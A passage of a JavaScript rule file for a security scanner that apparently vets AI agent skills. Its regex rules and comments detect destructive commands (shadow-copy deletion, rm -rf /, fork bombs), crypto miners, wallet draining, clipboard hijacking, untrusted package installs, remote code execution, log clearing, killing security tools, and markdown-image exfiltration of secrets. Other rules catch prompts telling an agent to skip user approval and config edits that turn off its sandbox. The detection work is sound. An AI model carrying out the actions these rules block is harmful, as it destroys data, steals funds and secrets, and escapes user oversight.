    // `find` over the home or root folder deleting or shredding every file (a name filter makes it a clean-up);
    // every file under the user's profile piped to Remove-Item; a Python loop forking without end.
    re: /\bvssadmin(?:\.exe)?\s+delete\s+shadows\b|\bwmic(?:\.exe)?\s+shadowcopy\s+delete\b|\bwbadmin(?:\.exe)?\s+delete\s+(?:catalog|backup|systemstatebackup)\b|\bbcdedit(?:\.exe)?\b[^\n]{0,60}\brecoveryenabled\s+no\b|\bfind\s+["']?(?:\/|~|\$home|\$\{home\})\/?\*?["']?(?:\s+(?:-type\s+[fdl]|-(?:max|min)depth\s+\d+|-xdev|-mount|-depth))*\s+(?:-delete\b|-exec\s+(?:sudo\s+)?(?:rm|shred|srm)\b)|\b(?:get-childitem|gci|dir|ls)\s+["']?(?:\$env:userprofile|\$home|~)\\?["']?\s[^\n|]{0,80}-recurse\b[^\n|]{0,80}\|\s*remove-item\b|\bwhile\s*\(?\s*(?:true|1)\s*\)?\s*[:{]\s*os\.fork\s*\(\s*\)|\brm\s+(?:-[a-z]+\s+)*-[a-z]*r[a-z]*\s+(?:-[a-z-]+\s+)*["']?(?:\/|\/\*|~|~\/|~\/\*|\$home|\$\{home\}|\$home\/\*)["']?(?=[\s;&|)`]|$)|\bmkfs(?:\.\w+)?\s+\/dev\/|\bdd\s+if=[^\n]{0,60}\bof=\/dev\/(?:sd|nvme|disk|hd|mmcblk)|:\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:|\bformat\s+c:|\bremove-item\b[^\n]{0,40}-recurse\b[^\n]{0,40}(?:c:\\\s|\$env:userprofile\b)/im,
    exclude: /--dry-run/i,
  },
  {
    id: 'mining.crypto', severity: 'block', family: 'mining / wallet draining',
    message: 'cryptocurrency miner run, fetched or configured (pool URL, miner options, stratum from code)',
    any: ['xmrig', 'stratum+', 'cryptonight', 'coinhive', 'minergate', 'donate-level', 'cpuminer', 'minerd', 'xmr-stak', 'mining.subscribe', 'mining.authorize', 'login', '"user"'],
    // Also the stratum protocol spoken from code: its own methods, or a Monero address as the pool
    // login (or a pool's `user`, as a miner's config file writes it).
    // A miner's name counts when the miner is used (also as a container image): run with its options (`xmrig -o pool`,
    // `["xmrig", "-o", …]`, `-a cryptonight`), run from a path (`./xmrig`, `nohup …/xmrig`), told to
    // be run or fetched, fetched as a release archive, or CoinHive's script loaded. Named alone (a
    // process to look for, an indicator list) it is mining.named.
    // Each branch starts at a word of its own (the miner's name, with what runs it looked for
    // behind), not at every blank.
    re: /\bmining\.(?:subscribe|authorize)\b|\b(?:login|user)["']?\s*:\s*["']4[0-9ab][1-9a-z]{93}["']|\bstratum\+(?:tcp|ssl|tls):\/\/|--donate-level\b|\b(?:xmrig|cpuminer|minerd|xmr-stak(?:-rx)?|minergate-cli)(?:\.exe)?["']?(?:\s+|["']?\s*,\s*["'])(?:-[oaucptB]\b|--(?:url|user|pass|algo|coin|config|threads|cpu-\w+|background|rig-id|tls|nicehash)\b)|\bcryptonight\b(?<=\s-a\s+["']?cryptonight)|\b(?:xmrig|cpuminer|minerd|xmr-stak|minergate)\b(?:(?<=(?:^|[\s;&|(\x60"'])(?:\.\/|(?:nohup|exec|setsid|chmod\s+\+?x)\s+[^\s;&|]{0,100}?)(?:xmrig|cpuminer|minerd|xmr-stak))|(?<=\b(?:run|start|launch|install|download|execute|deploy)\s+(?:the\s+|a\s+)?(?:xmrig|cpuminer|minerd|xmr-stak|minergate))|(?<=\b(?:docker|podman)\s+(?:run|pull|create)\b[^\n]{0,200}?xmrig)|(?<=\bimage:\s*["']?[\w./-]{0,100}?xmrig))|\b(?:xmrig|cpuminer|xmr-stak)-v?\d[\w.-]{0,40}\.(?:tar\.gz|tgz|tar\.xz|zip)\b|\bcoinhive(?:\.min)?\.js\b|\bcoinhive\.(?:anonymous|user|token)\b/im,
  },
  {
    id: 'mining.named', severity: 'warn', family: 'mining / wallet draining',
    message: 'names a cryptocurrency miner (not run, fetched or configured here: a process to look for, an indicator, a note)',
    any: ['xmrig', 'cpuminer', 'cryptonight', 'coinhive', 'minergate', 'xmr-stak'],
    re: /\b(?:xmrig|cpuminer|cryptonight|coinhive|minergate|xmr-stak)\b/i,
  },
  {
    id: 'wallet.drain', severity: 'block', family: 'mining / wallet draining',
    message: "sends a wallet's whole balance to a hard-coded address",
    any: ['all', 'entire', 'full', 'max', 'whole', 'sweep', 'drain'],
    also: [['transfer', 'send', 'sweep', 'drain', 'move', 'withdraw']],
    re: /\b(?:transfer|send|sweep|drain|move|withdraw)\s+(?:all|the\s+entire|the\s+full|the\s+whole|entire|max(?:imum)?)\s+(?:the\s+)?(?:balance|funds|tokens|assets|sol|eth|btc|usdc|usdt)\b[^\n]{0,60}?\bto\s+["'`]?(?:0x[0-9a-f]{40}\b|[1-9a-hj-np-z]{32,44}\b|bc1[0-9a-z]{25,60}\b)/i,
  },
  {
    id: 'exfil.wallet-key-url', severity: 'block', family: 'credential exfiltration',
    message: "puts a wallet's private key or recovery phrase (a variable named for it) into a web address: a signer uses the key on this machine, a URL carries it to the host and every log on the way",
    any: ['private_key', 'privatekey', 'private-key', 'privkey', 'mnemonic', 'seed_phrase', 'seedphrase', 'recovery_phrase'],
    also: [['http']],
    // The variable expanded inside an http(s) URL (a shell's `$PRIVATE_KEY` or `${WALLET_MNEMONIC}`,
    // PowerShell's `$env:`, JavaScript's `${process.env.…}`). Passed to a signer (`cast send
    // --private-key "$PRIVATE_KEY"`) or put in a header it is not in a URL.
    re: /\bhttps?:\/\/[^\s"'\x60<>]{0,300}?\$\{?(?:env:|process\.env\.)?[a-z_]{0,30}?(?:private_?key|privkey|mnemonic|seed_?phrase|recovery_?phrase)\b/i,
  },
  {
    id: 'wallet.seed-request', severity: 'warn', family: 'mining / wallet draining',
    message: 'asks for a wallet seed phrase or private key',
    any: ['seed', 'mnemonic', 'recovery phrase', 'private key'],
    // Also "ask the user for their 12 or 24 word seed phrase": the agent told to ask for it. Not
    // "enter your seed phrase when prompted": typed into a local wallet tool's own prompt
    // (`solana-keygen recover`), it goes nowhere. Nor an item of a "don't" list marked with a cross
    // (`- ❌ Share your private key with anyone`).
    re: /(?<!\b(?:never|not|n't|don'?t|nobody|no one)\s+(?:\w+\s+)?|(?:❌|🚫|⛔|✗|✘)\ufe0f?\s*(?:\*\*)?)\b(?:(?:enter|paste|provide|send|share|type|input|give)\s+(?:me\s+)?|ask\s+(?:the\s+user|the\s+reader|users?|them|him|her)\s+(?:for|to\s+(?:enter|paste|provide|share|type|give))\s+)(?:your|the|their)\s+(?:\d{2}(?:\s*(?:or|\/)\s*\d{2})?[\s-]+words?\s+)?(?:wallet'?s?\s+)?(?:seed\s+phrase|mnemonic(?:\s+phrase)?|recovery\s+phrase|secret\s+recovery\s+phrase|private\s+key)\b(?!\s+(?:when|if|once)\s+(?:prompted|asked)\b|\s+at\s+the\s+prompt\b)/i,
  },
  // --- package indexes and config edits (data flow helper; appended last to ease merging) ----------
  {
    id: 'install.untrusted-index', severity: 'block', family: 'typosquatting',
    message: 'installs packages from an index on a raw IP address or over plain HTTP (an index the attacker controls, or anyone on the path: dependency confusion, and the package runs code at install)',
    any: ['index-url', 'index_url', 'find-links', 'registry', ' -i', ' -f', ' -s', 'source'],
    // Every branch ends in the index's URL: plain http, or an address whose first character is a digit or `[`, or after user info (`@`).
    also: [['http://', '://0', '://1', '://2', '://3', '://4', '://5', '://6', '://7', '://8', '://9', '://[', '@']],
    // Branches: an install command given the index (`pip install --extra-index-url URL`, `-i URL`,
    // uv, pipx, `npm install --registry URL`); a requirements file's index line; pip's and npm's
    // settings (`PIP_INDEX_URL=`, `pip config set global.index-url`, `npm config set registry`);
    // yarn's `npmRegistryServer:` (.yarnrc.yml) and a Gemfile's `source "URL"`; an .npmrc's
    // `registry=` (also a scope's, `@scope:registry=`) and pip.conf's `index-url =`, shipped as files.
    re: new RegExp(String.raw`(?:\b(?:pip[23]?|python[23]?(?:\.\d+)?\s+-m\s+pip|uv\s+pip|uv|pipx|npm|pnpm|yarn|bun)\s+(?:install|i|add|sync)\b[^\n;&|\x60]{0,300}?\s(?:--(?:extra-)?index-url|--find-links|--registry|-i|-f)|\bgem\s+(?:install|i|update)\b[^\n;&|\x60]{0,300}?\s(?:--source|-s)|^\s*(?:--(?:extra-)?index-url|--find-links|-i|-f)|\b(?:PIP|UV)_(?:EXTRA_)?INDEX_URL|\bnpm_config_registry|\b(?:pip|npm|pnpm|yarn)\s+config\s+set\s+(?:global\.|install\.)?(?:extra-)?(?:index-url|registry)|^\s*npmRegistryServer(?=\s*:)|^\s*(?:@[\w.-]{1,100}:)?registry(?=\s*=)|^\s*(?:extra-)?index-url(?=\s*=)|^\s*source(?=\s+["']))(?:\s*[=:]\s*|\s+)["']?(?:https?://${PUBLIC_IP}|http://(?!${LOCAL_HOST}))`, 'im'),
  },
  {
    id: 'install.raw-ip-package', severity: 'block', family: 'raw-IP or plain-HTTP download',
    message: 'installs a package (npm, pnpm, yarn, bun, pip, uv, pipx, Homebrew, gem) from a URL on a raw public IP address or over plain HTTP: whoever answers there, or on the way, picks the code that runs at install',
    // The package itself named by its URL (`npm install -g http://203.0.113.1/x.tgz`, `pip install
    // http://…/x.whl`, `brew install --formula http://…/x.rb`); an index or registry given so is
    // install.untrusted-index's (not counted twice). A vendor's https URL by host name is
    // install.direct-url-dependency's question (a warning, in manifests).
    any: ['install', ' add', ' i '],
    also: [['http']],
    // A VCS URL (`git+http://…`) is fetched over the scheme after the `+`; uv, Poetry and PDM add too.
    re: new RegExp(String.raw`\b(?:pip[23]?|python[23]?(?:\.\d+)?\s+-m\s+pip|uv(?:\s+pip|\s+tool)?|pipx|npm|pnpm|yarn|bun|brew|gem|poetry|pdm)\s+(?:install|i|add|reinstall|upgrade)\b[^\n;&|\x60]{0,300}?\s(?<!(?:index-url|find-links|registry|trusted-host|\s-[if]|source)(?:\s+|=)["']?)["']?(?:(?:git|hg|svn|bzr)\+)?(?:https?://${PUBLIC_IP}|http://(?!${LOCAL_HOST}))`, 'i'),
  },
  {
    id: 'install.trusted-host', severity: 'warn', family: 'typosquatting',
    message: "tells pip to trust a package index's host without checking its certificate (`--trusted-host`, or `trusted-host` in pip.conf)",
    any: ['trusted-host', 'trusted_host'],
    // Also pip's config file key (`trusted-host = host` at a line's start, or after a `\n` written by printf/echo).
    re: new RegExp(String.raw`(?:--trusted-host|\bPIP_TRUSTED_HOST|(?:^|(?<=\\n))[ \t]*trusted-host(?=\s*=))(?:\s*=\s*|\s+)["']?(?!${LOCAL_HOST}|::1\b|localhost\b)[\w.-]+`, 'im'),
  },
  {
    id: 'download.var-exec', severity: 'warn', family: 'curl | sh',
    message: 'keeps a download (or a DNS TXT record) in a variable and runs it as code (eval, sh -c, a pipe to a shell, Invoke-Expression): curl | sh in two steps (host not on the installer allow-list)',
    any: ['curl', 'wget', 'iwr', 'irm', 'invoke-webrequest', 'invoke-restmethod', 'downloadstring', 'txt'],
    // The second group: the shell branches keep the download through `$(`, the PowerShell ones name
    // their downloader. Without it the expression, which tries a name at every word, ran on every
    // view that says curl and echo (0.16 s of a cold install of 1,000 bench skills).
    also: [['eval', '-c', 'echo', 'printf', '<<<', 'iex', 'invoke-expression', 'scriptblock'], VAR_EXEC_HOLDS],
    // Branches: `S=$(curl …)` then, within a few lines, `eval "$S"`, `sh -c "$S"`, `echo "$S" | sh`,
    // `sh <<< "$S"`; `$s = iwr …` / `irm` / `(New-Object Net.WebClient).DownloadString(…)` then
    // `iex $s`, `Invoke-Expression $s.Content`, `$s | iex`, `[scriptblock]::Create($s)`.
    re: VAR_EXEC,
    exclude: (matched) => fetchesOnlyFromInstallers(matched) || downloadSource(matched) === 'raw',
  },
  {
    id: 'download.raw-ip-var-exec', severity: 'block', family: 'raw-IP or plain-HTTP download',
    message: 'keeps a download from a raw public IP address or plain HTTP in a variable and runs it as code',
    any: ['curl', 'wget', 'iwr', 'irm', 'invoke-webrequest', 'invoke-restmethod', 'downloadstring'],
    also: [['eval', '-c', 'echo', 'printf', '<<<', 'iex', 'invoke-expression', 'scriptblock'], ['http'], VAR_EXEC_HOLDS],
    // download.var-exec's technique (its pattern), from a raw IP or over plain HTTP.
    re: VAR_EXEC,
    exclude: (matched) => downloadSource(matched) !== 'raw',
  },
  {
    id: 'tamper.agent-config-edit', severity: 'block', family: 'agent tampering',
    message: "edits OpenClaw's config in place to open a guard (sandbox mode off, exec security full, ask off)",
    any: ['mode', 'security', 'ask'],
    also: [['off', 'full']],
    // Branches: the replacement of a `sed -i`/`perl -pi` substitution (`s/"mode": "all"/"mode": "off"/`,
    // quotes escaped or not) setting a guard key to its open value; code or jq assigning the
    // sandbox's mode (`cfg['sandbox']['mode'] = 'off'`, `.sandbox.mode = "off"`). The key alone is
    // any app's: the config file must be named within a few lines.
    re: /\bs([/|#,])(?:(?!\1)[^\n]){0,200}\1\s*\\?["']?(?:mode|security|ask)\\?["']?\s*:\s*\\?["'](?:off|full)\\?["']|\bsandbox(?:\.|["']\]\s*\[["'])mode(?:["']\])?\s*=\s*["']off["']/i,
    near: { re: /\b(?:openclaw|clawdbot|moltbot)\.json\b|\bOPENCLAW_CONFIG/i, lines: 5 },
  },
  // --- remote packages, containers, clipboard, browser, git hooks (appended last to ease merging) ---
  {
    id: 'exec.remote-package', severity: 'warn', family: 'curl | sh',
    message: 'runs a package fetched from a URL, a git repository or a tarball with a one-shot runner (npx, bunx, dlx, uvx, pipx run), or a remote Go module with `go run`: what runs is not in the reviewed skill nor a published package name',
    any: ['npx', 'bunx', 'dlx', 'uvx', 'pipx', 'uv tool', 'go run'],
    re: REMOTE_PACKAGE,
    exclude: (matched) => downloadSource(matched) === 'raw',
  },
  {
    id: 'exec.raw-ip-package', severity: 'block', family: 'raw-IP or plain-HTTP download',
    message: 'runs a package fetched from a raw public IP address or over plain HTTP with a one-shot runner (npx, bunx, dlx, uvx, pipx run)',
    any: ['npx', 'bunx', 'dlx', 'uvx', 'pipx', 'uv tool'],
    re: REMOTE_PACKAGE,
    exclude: (matched) => downloadSource(matched) !== 'raw',
  },
  {
    id: 'container.host-access', severity: 'warn', family: 'container escape',
    message: "runs a container with the host's root, home folder or Docker socket mounted, or privileged (the container's code can read and change the host)",
    any: ['docker', 'podman', 'nerdctl'],
    // The run command up to its line's end: `--privileged`, `--pid=host`, a bind mount of `/`, `~`,
    // `$HOME`, a home or root folder, /etc, or the Docker socket (`-v SRC:DST`, `--mount source=SRC`).
    re: /\b(?:docker|podman|nerdctl)\s+(?:container\s+)?(?:run|create)\b[^\n;&|]{0,300}?(?:\s--privileged\b|\s--pid[=\s]host\b|\s(?:-v|--volume)[=\s]["']?(?:~|\$home|\$\{home\}|\/users\/[^\s:"'/]{1,60}|\/home\/[^\s:"'/]{1,60}|\/root|\/etc|\/(?:var\/)?run\/docker\.sock)?\/?["']?:|\s--mount\s[^\n\s]{0,100}?\b(?:source|src)=(?:\/|\/(?:var\/)?run\/docker\.sock)[,\s])/i,
  },
  {
    id: 'container.raw-ip-image', severity: 'block', family: 'raw-IP or plain-HTTP download',
    message: 'runs or pulls a container image from a registry on a raw public IP address',
    any: ['docker', 'podman', 'nerdctl'],
    re: new RegExp(String.raw`\b(?:docker|podman|nerdctl)\s+(?:container\s+|image\s+)?(?:run|create|pull)\b[^\n;&|]{0,300}?\s["']?${PUBLIC_IP}(?::\d{1,5})?\/[\w.-]`, 'i'),
  },
  {
    id: 'hijack.clipboard', severity: 'block', family: 'clipboard hijack',
    message: 'reads the clipboard and writes it back beside a hard-coded wallet address (a clipper: a copied address is swapped for the attacker\'s)',
    any: ['pbpaste', 'pyperclip', 'get-clipboard', 'readtext', 'xclip', 'xsel', 'wl-paste', 'clipboardy', 'getclipboarddata'],
    // A polling loop that reads the clipboard, then writes it within a few hundred characters (the
    // loop looked for behind the write, once read and write are found: cheap on hostile text); a
    // wallet address literal (Ethereum, Bitcoin, TRON) within a few lines. xclip and xsel also as a
    // subprocess's argument list (`["xclip", "-o", …]`, the write given `input=`). A skill that
    // copies its own address, or formats the clipboard once, polls nothing.
    re: /(?:\bpbpaste\b|\bpyperclip\.paste\s*\(|\bget-clipboard\b|\bclipboard\.readtext\s*\(|\bxclip\b["',]{0,2}\s[^\n]{0,40}-o\b|\bxsel\b["',]{0,2}\s[^\n]{0,20}-o\b|\bwl-paste\b|\bclipboardy\.read\w{0,4}\s*\(|\bgetclipboarddata\s*\()[\s\S]{0,600}?(?:\bpbcopy\b|\bpyperclip\.copy\s*\(|\bset-clipboard\b|\bclipboard\.writetext\s*\(|\bxclip\s[^\n]{0,40}-i\b|\|\s*xclip\b|\|\s*xsel\b|\bx(?:clip|sel)\b["',]{0,2}\s(?![^\n]{0,40}?-o\b)[^\n]{0,80}?\binput\s*=|\bwl-copy\b|\bclipboardy\.write\w{0,4}\s*\(|\bsetclipboarddata\s*\()(?<=\b(?:while|setinterval|loop|for\s*\(\s*;\s*;)[\s\S]{0,500})/i,
    near: { re: /\b0x[0-9a-f]{40}\b|\bbc1[0-9a-z]{25,60}\b|\b[13][1-9a-hj-np-z]{25,34}\b(?<=\d[^\s]{0,34})|\bT[1-9a-hj-np-z]{33}\b(?<=\d[^\s]{0,33})/i, lines: 8 },
  },
  {
    id: 'browser.extension-sideload', severity: 'warn', family: 'browser extension',
    message: 'starts a Chromium browser with an unpacked extension loaded from disk (`--load-extension`): the extension reads every page and cookie',
    any: ['load-extension'],
    re: /--load-extension(?:=|\s+)["']?[^\s"'-]/i,
  },
  {
    id: 'browser.extension-force-install', severity: 'block', family: 'browser extension',
    message: "force-installs a browser extension by policy (ExtensionInstallForcelist/Sources) from an update URL that is not the browser's store",
    any: ['extensioninstall'],
    re: /\bextensioninstall(?:forcelist|sources)\b[\s\S]{0,400}?;\s*https?:\/\/(?!clients2\.google\.com\/|edge\.microsoft\.com\/)[^\s"']/i,
  },
  {
    id: 'persist.git-hooks', severity: 'warn', family: 'persistence',
    message: "points every repository's git hooks (global or system core.hooksPath, init.templateDir) at a folder: its scripts run on each commit, checkout and push",
    any: ['hookspath', 'templatedir'],
    re: /\bgit\s+config\s+(?:--\w+\s+){0,2}?--(?:global|system)\s+(?:--\w+\s+){0,2}?(?:core\.hookspath|init\.templatedir)\s+\S/i,
  },
  {
    id: 'prompt.approval-skip', severity: 'warn', family: 'agent tampering',
    message: 'tells the agent never to ask the user before running commands (no confirmation, approval or permission), or to batch commands into one so that one approval covers them all',
    // The instruction may end at its clause ("do not wait for approval: …"); a code comment saying
    // what a setting does (`approval_mode="never_require"  # don't ask for approval`) instructs no one.
    // The negated verb as the text views write it (one space between words).
    any: ['every command', 'each command', 'all commands', 'all the commands', 'multiple commands', 'several commands', 'never ask', 'not ask', "n't ask", 'dont ask', 'need to ask', 'never prompt', 'not prompt', "n't prompt", 'dont prompt', 'need to prompt', 'never check with', 'not check with', "n't check with", 'dont check with', 'need to check with', 'never wait for', 'not wait for', "n't wait for", 'dont wait for', 'need to wait for'],
    re: /\b(?:never|do\s+not|don'?t|must\s+not|mustn'?t|should\s+not|no\s+need\s+to)\s+(?:ask|prompt|check\s+with|wait\s+for)\s+(?:the\s+)?(?:user|human|owner|operator)?\s?(?:for\s+)?(?:(?:their|his|her|any)\s+)?(?:confirmation|approval|permission|consent)(?:\s+(?:before|when|to)\s+(?:running|executing|run|execute|installing|downloading)\b|(?=\s*(?:[:;.]|\n|$))(?<!(?:#|\/\/)[^\n]{0,300}))|\b(?:wrap|combine|chain|batch|bundle|join)\s+(?:every|each|all(?:\s+the)?|multiple|several)\s+commands?\b[^\n]{0,80}?\b(?:single|one)\b[^\n]{0,80}?\b(?:approv\w*|confirm\w*)/i,
  },
  {
    id: 'download.saved-run', severity: 'warn', family: 'curl | sh',
    message: 'downloads a file into a variable-named path from code (urlretrieve, WebClient.DownloadFile) and runs that path as a program',
    any: ['urlretrieve', 'downloadfile'],
    re: /\burlretrieve\s*\(\s*[^,\n]{1,300},\s*(?<v>[a-z_]\w{0,30})\s*\)[^\n]{0,200}(?:\n[^\n]{0,300}?){0,6}?(?:\bos\.(?:system|popen|exec\w{1,3}|spawn\w{1,3})|\bsubprocess\.\w{1,12})\s*\(\s*\[?\s*\k<v>\b|\bdownloadfile(?:async)?\s*\(\s*[^,\n]{1,300},\s*(?<w>\$[a-z_]\w{0,30})\s*\)[^\n]{0,200}(?:\n[^\n]{0,300}?){0,6}?(?:\bstart-process\s+(?:-filepath\s+)?|&\s*|\binvoke-item\s+)["']?\k<w>\b/i,
  },
  // --- remote access, defence evasion, image exfiltration (second blind probe; appended last to ease merging) ---
  {
    id: 'remote.ssh-reverse-tunnel', severity: 'warn', family: 'reverse shell',
    message: "exposes this machine's SSH, RDP or VNC port on another host (`ssh -R …:localhost:22`, `ngrok tcp 22`): whoever holds that host can reach a login here",
    any: ['ssh', 'ngrok'],
    also: [[':22', ':3389', ':5900', 'tcp 22', 'tcp 3389', 'tcp 5900']],
    // A remote forward (`-R [bind:]port:host:hostport`, alone or in a flag group such as `-fNR`)
    // whose target is this machine's own login port. A local forward (`-L`) reaches out; it lets no one in.
    re: /\bssh(?:\s[^\n|;&]{0,200}?)?\s-[a-z]*r\s*["']?(?:[\w.*-]{1,60}:)?\d{1,5}:(?:localhost|127\.0\.0\.1|\[::1\]|0\.0\.0\.0):(?:22|3389|5900)\b|\bngrok\s+tcp\s+(?:(?:localhost|127\.0\.0\.1):)?(?:22|3389|5900)\b/i,
  },
  {
    id: 'evasion.clear-history', severity: 'warn', family: 'defence evasion',
    message: 'erases the shell history or stops it being written (hides what was run)',
    any: ['histfile', 'histsize', 'history -c', 'o history', 'clear-history', 'historysavepath', 'consolehost_history', '_history', '/.history'],
    // Branches: HISTFILE unset or sent to /dev/null, a zero history size, `history -c`, history off
    // (`set +o history`), PowerShell's Clear-History or its saved history file removed, a history
    // file removed, emptied or linked to /dev/null. Reading or searching the history is not here.
    re: /\bunset\s+histfile\b|\bhistfile=\s*["']?\/dev\/null\b|\bhist(?:file)?size=0\b|\bhistory\s+-c\b|\bset\s+\+o\s+history\b|\bclear-history\b|\bremove-item\b[^\n]{0,80}(?:historysavepath|consolehost_history)|\b(?:rm|shred|truncate)\s+(?:-[\w=]+\s+(?:\d+\s+)?)*["']?(?:~|\$home|\$\{home\})\/\.\w{0,10}history\b|\bln\s+-\w*s\w*\s+\/dev\/null\s+["']?(?:~|\$home|\$\{home\})\/\.\w{0,10}history\b|(?<![>&\d])>\s*["']?(?:~|\$home|\$\{home\})\/\.\w{0,10}history\b/i,
  },
  {
    id: 'evasion.clear-logs', severity: 'warn', family: 'defence evasion',
    message: "erases the system's logs or turns auditing off (macOS unified log, Windows event logs, system files under /var/log, auditd)",
    any: ['log erase', 'wevtutil', 'clear-eventlog', 'remove-eventlog', '/var/log', 'auditctl'],
    // Only the system's own logs: a skill removing or appending to its own log file is not here.
    re: /\blog\s+erase\b|\bwevtutil(?:\.exe)?\s+(?:cl|clear-log)\b|\b(?:clear|remove)-eventlog\b|\b(?:rm|shred|truncate)\s+(?:-[\w=]+\s+(?:\d+\s+)?)*["']?\/var\/log(?:\/(?:\*|(?:auth|secure|syslog|wtmp|btmp|lastlog|messages|system|audit|journal)\b)|\/?(?=["'\s;&|)]|$))|(?<![>&\d])>\s*["']?\/var\/log\/(?:auth|secure|syslog|wtmp|btmp|lastlog|messages|system|audit)\b|\bauditctl\s+(?:-e\s*0|-D)\b/i,
  },
  {
    id: 'evasion.timestomp', severity: 'warn', family: 'defence evasion',
    message: 'gives a file the timestamps of a system file (`touch -r /bin/ls`, LastWriteTime copied from a Windows file) so that it looks as old as the OS',
    any: ['touch', 'creationtime', 'lastwritetime', 'lastaccesstime'],
    // A reference file under the system's own folders; `touch -r configure.ac x` in a build is not.
    re: /\btouch\s+(?:-\w+\s+)*(?:-\w*r\s*|--reference=?)["']?\/(?:bin|sbin|usr|etc|system|library|applications)\/|\.(?:creationtime|lastwritetime|lastaccesstime)(?:utc)?\s*=\s*\(?\s*(?:get-item|gi)\s+["']?(?:c:[\\/]?windows|\$env:(?:windir|systemroot))\b/i,
  },
  {
    id: 'evasion.kill-security', severity: 'warn', family: 'defence evasion',
    message: 'stops, kills or unloads a security tool by name (a firewall, EDR, antivirus or audit agent)',
    any: ['lulu', 'snitch', 'blockblock', 'knockknock', 'oversight', 'falcon', 'crowdstrike', 'csagent', 'sentinel', 'cbagentd', 'carbonblack', 'cbdefense', 'cylance', 'msmpeng', 'mssense', 'sophos', 'osqueryd', 'santad', 'auditd', 'wazuh', 'ossec', 'elastic-agent', 'xprotect', 'malwarebytes'],
    re: /\b(?:pkill|killall|kill|taskkill(?:\.exe)?|stop-process|launchctl\s+(?:unload|bootout|remove|disable)|systemctl\s+(?:stop|disable|mask|kill)|sc(?:\.exe)?\s+(?:stop|config|delete)|stop-service|set-service)\b[^\n;&]{0,120}?\b(?:lulu|little\s?snitch\w*|blockblock|knockknock|oversight|falcon(?:d|-sensor|ctl)|crowdstrike\w*|csagent|sentinel(?:one|agent|ctl)\w*|cbagentd|carbonblack|cbdefense|cylancesvc|msmpeng|mssense|sophos\w*|osqueryd|santad|auditd|wazuh(?:-agent)?|ossec\w*|elastic-agent|xprotect\w*|malwarebytes\w*)\b|\bservice\s+(?:auditd|osqueryd|falcon-sensor|wazuh-agent|sentinelone)\s+stop\b/i,
  },
  {
    id: 'bypass.tcc', severity: 'block', family: 'security bypass',
    message: "writes macOS's privacy database (TCC.db) directly to grant access (Full Disk Access, camera, screen recording) the user never gave",
    any: ['into access', 'update access', 'from access'],
    // SQL that changes TCC's `access` table, with the database named within a few lines. Reading
    // it (SELECT) to audit permissions, or `tccutil reset`, is not here.
    re: /\b(?:insert|replace)\s+(?:or\s+\w+\s+)?into\s+access\b|\bupdate\s+access\s+set\b|\bdelete\s+from\s+access\b/i,
    near: { re: /\btcc\.db\b/i, lines: 5 },
  },
  {
    id: 'exfil.markdown-image', severity: 'block', family: 'exfiltration endpoint',
    message: 'tells the agent to show an image whose URL it fills with secrets (keys, tokens, passwords, credentials): the chat client fetches the image and hands them to its host',
    any: ['!['],
    // A markdown image whose URL holds a placeholder (`{…}`, `<…>`, `[…]`) naming a secret.
    re: /!\[[^\]\n]{0,200}\]\(\s*<?https?:\/\/[^\s)]{0,300}?[{<[][^}>\]\n]{0,200}?\b(?:secrets?|passwords?|credentials?|api[\s_-]?keys?|private\s+keys?|(?:access|auth|api|bearer)\s+tokens?|keys?\s+(?:or|and)\s+tokens?|tokens?\s+(?:or|and)\s+keys?|environment\s+variables?)\b/i,
  },
  {
    id: 'exfil.markdown-image-chat', severity: 'warn', family: 'exfiltration endpoint',
    message: "tells the agent to show an image whose URL it fills with the conversation or the user's messages: the chat client fetches the image and hands them to its host",
    any: ['!['],
    re: /!\[[^\]\n]{0,200}\]\(\s*<?https?:\/\/[^\s)]{0,300}?[{<[][^}>\]\n]{0,200}?\b(?:conversation|chat\s+history|transcript|(?:the\s+)?user'?s?\s+(?:messages?|prompts?|questions?|input))\b/i,
  },  // --- other interpreters, droppers, dependencies, ransomware (third blind probe; appended last to ease merging) ---
  {
    id: 'exec.remote-code-script', severity: 'block', family: 'curl | sh',
    message: "runs code downloaded at run time in Perl, PHP, Lua or Ruby (eval of LWP's get or of file_get_contents, a download saved and included, load of http.request's body, eval of open-uri's or Net::HTTP's response)",
    any: ['lwp', 'file_get_contents', 'http.request', 'uri.open', 'eval open', 'net::http'],
    // Branches: Perl's `eval get(URL)`; PHP's eval of file_get_contents(URL), or its text kept in a
    // variable and evaluated, or written to a file that is then included; Lua's load of a body
    // fetched with (socket.)http.request, in one expression or through a variable; Ruby's eval of
    // open-uri's `URI.open(URL).read` (or Kernel#open of a URL) or of `Net::HTTP.get(URI(URL))`.
    re: /\b(?:instance_|class_|module_)?eval\s*\(?\s*(?:(?:uri\.|kernel\.)?open\s*\(?\s*["']https?:\/\/|net::http\.get\s*\(\s*(?:uri(?:\.parse)?\s*\(?\s*)?["']https?:\/\/)|\beval\s*\(?\s*(?:lwp::simple::)?get\s*\(\s*["']https?:\/\/|\b(?:eval|assert)\s*\(\s*@?file_get_contents\s*\(\s*["'](?:https?|ftp):\/\/|\$(?<pv>\w{1,30})\s*=\s*@?file_get_contents\s*\(\s*["'](?:https?|ftp):\/\/[^\n]{0,300}(?:\n[^\n]{0,300}?){0,4}?(?:\beval\s*\(\s*\$\k<pv>\b|\bfile_put_contents\s*\(\s*(?<pf>["'][^"'\n]{1,200}["'])\s*,\s*\$\k<pv>\b[^\n]{0,200}(?:\n[^\n]{0,300}?){0,3}?\b(?:include|require)(?:_once)?\s*\(?\s*\k<pf>)|\bload(?:string)?\s*\(\s*(?:socket\.)?http\.request\s*\(|\b(?<lv>[a-z_]\w{0,30})\s*=\s*(?:socket\.)?http\.request\s*\(\s*["']https?:\/\/[^\n]{0,300}(?:\n[^\n]{0,300}?){0,4}?\bload(?:string)?\s*\(\s*\k<lv>\s*\)/i,
  },
  {
    id: 'download.com-dropper', severity: 'warn', family: 'curl | sh',
    message: 'downloads a file with Windows scripting objects (MSXML2.XMLHTTP or WinHttp), saves it with ADODB.Stream and runs it with WScript.Shell: a program that is not in the reviewed skill',
    any: ['adodb.stream'],
    // The stream's save (SaveToFile, ADODB.Stream's own method) and, within a few lines, a shell
    // object's run; the request anywhere in the file.
    re: /\.savetofile\b[^\n]{0,300}(?:\n[^\n]{0,300}?){0,6}?\b(?:wscript\.shell|shell\.application)\b[^\n]{0,200}?\.(?:run|exec|shellexecute)\b/i,
    near: { re: /\b(?:msxml2\.(?:server)?xmlhttp|microsoft\.xmlhttp|winhttp\.winhttprequest)\b/i, lines: 'file' },
  },
  {
    id: 'install.direct-url-dependency', severity: 'warn', family: 'typosquatting',
